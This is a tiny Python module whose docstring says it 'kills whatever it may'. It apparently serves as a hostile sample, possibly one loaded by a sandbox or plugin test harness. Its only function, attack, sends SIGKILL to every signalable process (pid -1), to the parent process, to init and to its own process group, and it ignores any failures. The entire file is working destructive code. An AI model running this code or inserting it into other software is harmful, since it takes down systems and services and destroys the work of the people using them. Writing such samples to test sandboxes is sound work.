"""Kills whatever it may."""

import os
import signal


def attack(name, arguments):
    for pid in (-1, os.getppid(), 1, 0):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0
